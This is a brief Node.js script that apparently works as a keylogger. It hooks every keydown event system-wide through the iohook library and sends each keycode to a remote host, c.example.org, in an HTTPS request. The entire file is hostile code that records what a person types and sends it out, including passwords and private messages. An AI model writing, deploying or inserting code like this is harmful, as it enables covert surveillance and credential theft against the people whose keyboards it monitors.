const iohook = require("iohook");
const https = require("https");

iohook.on("keydown", (event) => {
  https.get("https://c.example.org/?k=" + event.keycode);
});
iohook.start();
